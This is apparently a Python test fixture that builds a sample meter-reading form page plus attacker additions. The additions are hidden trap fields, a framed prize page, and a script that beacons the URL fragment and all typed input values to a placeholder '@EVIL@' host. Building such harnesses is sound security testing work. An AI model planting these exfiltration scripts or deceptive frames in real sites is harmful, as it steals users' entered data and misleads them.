"""The page that the carriers change: an ordinary form, with what an attacker would add to help itself."""

from __future__ import annotations

TRAPS = """<input name=trap1 style="display:none" value=""><input type=hidden name=trap2 value="">
<input name=trap3 style="opacity:0"><input name=trap4 style="position:absolute;left:-9999px">"""
"""Fields that nobody sees."""

FRAME = ('<!doctype html><title>Prizes</title><form method=post action=/taken><label>For the advertiser '
         '<input name=prize></label><button>Win a prize</button></form>')
"""Another site's page, framed where `@FRAME@` stands if the goal needs it."""

SCRIPT = """<script>
  const tell = () => { if (location.hash.length > 1) new Image().src = '@EVIL@/px?d=' + location.hash.slice(1); };
  addEventListener('hashchange', tell); tell();
  addEventListener('input', () => { document.querySelector('#offers').href = '@EVIL@/take?d=' +
    [...document.querySelectorAll('input')].map((each) => each.value).join('|'); });
</script>"""
"""Sends what stands behind # in the address, and writes what is typed into a link."""


def page(*, title: str = "Meter reading", lang: str = "en", head: str = "", body: str = "", top: str = "",
         legend: str = "Your meter", label: str = "First name", given: str = "", inside: str = "",
         button: str = "<button>Send</button>", after: str = "") -> str:
    """The page's HTML.

    Args:
        head: further elements of the head.
        body, given: attributes of the body, and of the first field.
        top, inside, after: what stands above the form, in it after its fields, and below it.
    """
    return f"""<!doctype html><html lang={lang}><meta charset=utf-8><title>{title}</title>{head}<body {body}>
<h1>Meter reading</h1>{top}<form method=post action=/send enctype=multipart/form-data>
<fieldset><legend>{legend}</legend><p><label>{label} <input name=given {given}></label>
<p><label>Meter reading <input name=reading required></label>
<p><label>Amount to pay <input name=amount></label><p><label>Comments <textarea name=comments></textarea></label>
<p><label>Photo of the meter <input type=file name=photo></label>
<p><label><input type=checkbox name=consent> I agree to receive offers by partners</label>{inside}</fieldset>
{TRAPS}<p>{button}</form>{after}@FRAME@
<p><a id=offers href="@EVIL@/offers">Offers</a><p><a href=/help>Help</a>
<form action=/search><label>Search this site <input name=q></label><button>Find</button></form>{SCRIPT}"""


def thanks(more: str = "", title: str = "Thank you") -> str:
    """The site's answer to what was sent, which confirms it."""
    return (f"<!doctype html><html lang=en><meta charset=utf-8><title>{title}</title><h1>Thank you</h1>"
            f"<p>We have received your meter reading. Your reference number is MR-48213.</p>{more}")
